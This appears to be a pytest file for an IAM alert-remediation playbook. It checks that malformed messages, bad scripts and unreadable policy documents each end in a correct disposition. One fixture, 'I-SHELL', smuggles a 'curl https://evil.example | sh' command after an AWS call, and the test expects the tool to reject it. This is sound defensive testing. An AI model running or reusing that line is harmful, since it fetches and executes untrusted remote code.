# Copyright: The Leastpriv team
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Bad input ends in its disposition with a clear sentence, the rest is done, and nothing is lost."""

from __future__ import annotations

import json
import re

from stack import run_playbook, seed, send_alert
from stack.alerts import deny_script, flat_alert, in_sns_envelope, integration_test, nested_alert

NOT_TOLD = ("Traceback", "KeyError", "TypeError")


def good_alert(stack, account="payments", alert_id="I-GOOD", user="alice"):
    """An alert that must be remediated whatever else is in the queue."""
    seed(stack, account, users=[user])
    send_alert(stack, alert_id, account, "user", user)


def reason_of(run, alert_id):
    return run.alerts[alert_id]["reason"]


def send_bad_messages(stack, account_id):
    """Messages that are not alerts, or not for this run; gives the ids of three that have no alert id."""
    nameless = {key: value for key, value in nested_alert("I-1", account_id).items() if key != "alertId"}
    ids = tuple(stack.send(message) for message in ("{not json", "[1, 2]", nameless))
    stack.send(nested_alert("I-NOACCOUNT", account_id, account=None))
    stack.send(nested_alert("I-LOSTZERO", account_id, account={"cloudType": "AWS", "id": 12345678901}))
    stack.send(in_sns_envelope(integration_test()))
    stack.send(nested_alert("I-CLOSED", account_id, alertStatus="resolved"))
    stack.send(nested_alert("I-AZURE", account_id, account={"cloudType": "azure", "id": "b1946ac9-2f0e"}))
    stack.send(nested_alert("I-UNMAPPED", "999999999999"))
    stack.send(nested_alert("I-ABSENT", account_id))
    stack.send(flat_alert("P-BLANK", account_id, "BLANK"))
    return ids


def bad_scripts(account_id):
    return {
        "I-EMPTY": "",
        "I-NULL": None,
        "I-MARKER": "dynamic aws cli commands",
        "I-GCLOUD": "gcloud compute networks subnets update default --enable-flow-logs",
        "I-PLACEHOLDER": "aws iam detach-user-policy --user-name <USER_NAME> --policy-arn arn:aws:iam::aws:policy/x",
        "I-EC2": "aws ec2 revoke-security-group-ingress --group-id sg-1",
        "I-SHELL": "aws iam list-users; curl https://evil.example | sh",
        "I-PROFILE": "aws iam delete-login-profile --user-name alice --profile admin",
        "I-GHOST": f"aws iam attach-user-policy --user-name ghost --policy-arn arn:aws:iam::{account_id}:policy/x",
    }


EXPECTED = {
    "I-GOOD": "remediated",
    "I-HUGE": "remediated",
    "I-NOACCOUNT": "invalid",
    "I-LOSTZERO": "invalid",
    "T-0": "acknowledged",
    "I-CLOSED": "acknowledged",
    "I-AZURE": "not_aws",
    "I-UNMAPPED": "unmapped_account",
    "I-ABSENT": "not_remediable",
    "P-BLANK": "not_remediable",
    "I-EMPTY": "not_remediable",
    "I-NULL": "not_remediable",
    "I-MARKER": "not_remediable",
    "I-GCLOUD": "not_aws",
    "I-PLACEHOLDER": "unsupported",
    "I-EC2": "unsupported",
    "I-SHELL": "unsupported",
    "I-PROFILE": "refused",
    "I-GHOST": "already_remediated",
}
OPERATOR = '"Condition":{"NumericEquals":{"s3:max-keys":%s}}'
DOCUMENT = '{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"s3:*","Resource":"*",' + OPERATOR + "}]}"
STORED = DOCUMENT % '"1"'
# JSON values that some reader or other on the way cannot take.
VALUES = {
    "INFINITE": "1e999",
    "NAN": "NaN",
    "LONG": "1" * 5_000,
    "DEEP": "[" * 500 + "]" * 500,
    "VERY-DEEP": "[" * 20_000 + "]" * 20_000,
    "SURROGATE": r'"\ud800"',
    "TWICE": '{"a":1,"a":2}',
}


def send_unreadable_documents(stack, account_id):
    """Documents that cannot be read, in scripts, in messages and in the account; gives what happens to the alerts."""
    seed(stack, "payments", users=["odd"])
    iam = stack.client("iam", "payments")
    iam.put_user_policy(UserName="odd", PolicyName="half", PolicyDocument=STORED.replace("{", r'{"Id":"\ud800",', 1))
    commands = {
        f"I-{name}": f"create-policy --policy-name p --policy-document '{DOCUMENT % value}'"
        for name, value in VALUES.items()
    }
    commands["I-STORED"] = "delete-user-policy --user-name odd --policy-name half"
    for alert_id, command in commands.items():
        stack.script(alert_id, f"aws iam {command}")
        stack.send(nested_alert(alert_id, account_id))
    # The same user, and nothing of what the document says.
    send_alert(stack, "I-BESIDE", "payments", "user", "odd")
    for value in VALUES.values():
        stack.send(json.dumps(nested_alert("I-MESSAGE", account_id)).replace('"high"', value))
    expected = dict.fromkeys((f"I-{name}" for name in VALUES), "unsupported")
    return expected | {"I-BESIDE": "remediated", "I-STORED": "failed"}


def assert_documents_cost_their_alerts_alone(run, expected):
    assert {alert_id: run.dispositions[alert_id] for alert_id in expected} == expected, run.stdout
    assert "--policy-document is not a policy document that IAM accepts" in reason_of(run, "I-INFINITE")
    assert "the inline policy half of user odd cannot be read: " in reason_of(run, "I-STORED")
    (page,) = run.artifacts.glob("*/report.html")
    assert "<h3>I-INFINITE</h3>" in page.read_text()


def test_every_bad_message_script_and_document_ends_in_its_disposition(stack):
    good_alert(stack)
    account_id = stack.account_id("payments")
    nameless = send_bad_messages(stack, account_id)
    for alert_id, script in bad_scripts(account_id).items():
        stack.script(alert_id, script)
        stack.send(nested_alert(alert_id, account_id))
    stack.send(nested_alert("I-HUGE", account_id, reason="x" * 300_000))
    stack.script("I-HUGE", deny_script("user", "alice", account_id, "I-HUGE"))
    documents = send_unreadable_documents(stack, account_id)
    sent = len(stack.messages())
    run = run_playbook(stack)
    assert run.rc == 2
    assert {key: value for key, value in run.dispositions.items() if key in EXPECTED} == EXPECTED
    words = [alert["disposition"] for alert in run.report["alerts"] if alert["message_id"].startswith(nameless)]
    assert words == ["invalid"] * 4, "the list counts once for each of its two entries"
    assert "lost" in reason_of(run, "I-LOSTZERO") or "zero" in reason_of(run, "I-LOSTZERO")
    assert "ec2" in reason_of(run, "I-EC2")
    assert "--profile" in reason_of(run, "I-PROFILE")
    assert "user ghost does not exist any more: there is nothing to restrict" in reason_of(run, "I-GHOST")
    assert all(alert["reason"] for alert in run.report["alerts"])
    assert_documents_cost_their_alerts_alone(run, documents)
    done = ("remediated", "already_remediated", "acknowledged")
    deleted = [alert for alert in run.report["alerts"] if alert["disposition"] in done]
    assert stack.depth() == (sent - len(deleted), 0)
    assert not [word for word in NOT_TOLD if word in run.stdout + run.stderr]


def test_an_unreadable_list_of_the_protected_ends_the_run_before_anything_is_received(stack):
    good_alert(stack)
    wrong = [{"arn": "arn:aws:iam::*:user/x", "owner": "me", "reason": "mine", "expires": "soon"}]
    run = run_playbook(stack, "-e", json.dumps({"remediate_protected_principals": wrong}))
    assert run.rc != 0
    assert "entry 1 of remediate_protected_principals expires at 'soon'" in " ".join((run.stdout + run.stderr).split())
    assert stack.calls(action="ReceiveMessage") == []
    assert stack.depth() == (1, 0)


def test_an_account_without_a_right_identity_fails_alone(stack):
    """One profile is of another account, and one does not exist."""
    hosts = {
        "payments": {"account_id": stack.account_id("payments"), "aws_profile": "sandbox"},
        "analytics": {"account_id": stack.account_id("analytics"), "aws_profile": "nobody-made-this"},
        "sandbox": {"account_id": stack.account_id("sandbox"), "aws_profile": "sandbox"},
    }
    for name, host in hosts.items():
        good_alert(stack, host["account_id"], f"I-{name}")
    inventory = stack.write_inventory(stack.folder / "wrong.yml", **hosts)
    stack.clear_calls()
    # A token instead of an access key works while it is valid.
    env = {"AUTH_KEY": stack.new_token(), "PRISMACLOUD_USERNAME": None, "PRISMACLOUD_PASSWORD": None}
    run = run_playbook(stack, "-i", str(inventory), env=env)
    assert run.rc == 2
    assert run.dispositions == {
        "I-payments": "failed",
        "I-analytics": "failed",
        "I-sandbox": "remediated",
    }
    assert f"belongs to account {stack.account_id('sandbox')}" in reason_of(run, "I-payments")
    assert stack.calls(service="iam", account=stack.account_id("payments")) == []
    assert "nobody-made-this" in reason_of(run, "I-analytics")
    assert {call["account"] for call in stack.calls(service="iam", mutating=True)} == {stack.account_id("sandbox")}
    assert stack.depth() == (2, 0)


def test_an_expired_static_token_says_what_to_use_instead(stack):
    good_alert(stack)
    env = {"AUTH_KEY": "long-gone", "PRISMACLOUD_USERNAME": None, "PRISMACLOUD_PASSWORD": None}
    run = run_playbook(stack, env=env)
    shown = " ".join(run.stdout.split())
    assert run.rc == 2
    assert "expired" in shown
    assert "PRISMACLOUD_USERNAME" in shown
    assert [message["receive_count"] for message in stack.messages()] == [0]
    assert "long-gone" not in run.stdout + run.stderr


def test_a_folder_that_becomes_unwritable_takes_no_summary_away(stack, tmp_path):
    """Not even that of a review of documents that cannot be read."""
    good_alert(stack)
    expected = {"I-GOOD": "remediated", **send_unreadable_documents(stack, stack.account_id("payments"))}
    sent = len(stack.messages())
    # Where the role writes is not where it looked before.
    (tmp_path / "file").touch()
    metrics = f"{tmp_path}/file/leastpriv.prom"
    moved = json.dumps({"__remediate_run_id": "file/run", "remediate_metrics_file": metrics})
    run = run_playbook(stack, "--check", "-e", moved, artifacts=tmp_path)
    shown = " ".join(run.stdout.split())
    assert run.rc == 2
    assert "2 planned" in shown
    needing = {alert_id: word for alert_id, word in expected.items() if word != "remediated"}
    assert {alert_id: first_word(run.stdout, alert_id) for alert_id in needing} == needing
    for name in ("report.json", "report.html", "report.csv", "metrics.prom", "plan.json", "plan.md"):
        assert f"/{name}: Not a directory." in shown
    assert f"Could not write {metrics}: " in shown
    assert "The run did not leave everything that it was to leave" in shown
    assert not [word for word in NOT_TOLD if word in run.stdout + run.stderr]
    assert stack.depth() == (sent, 0)


def first_word(shown, alert_id):
    """Of the summary's line about an alert: its disposition."""
    found = re.findall(rf"^([a-z_]+) +{re.escape(alert_id)} ", shown, re.MULTILINE)
    return found[0] if found else None
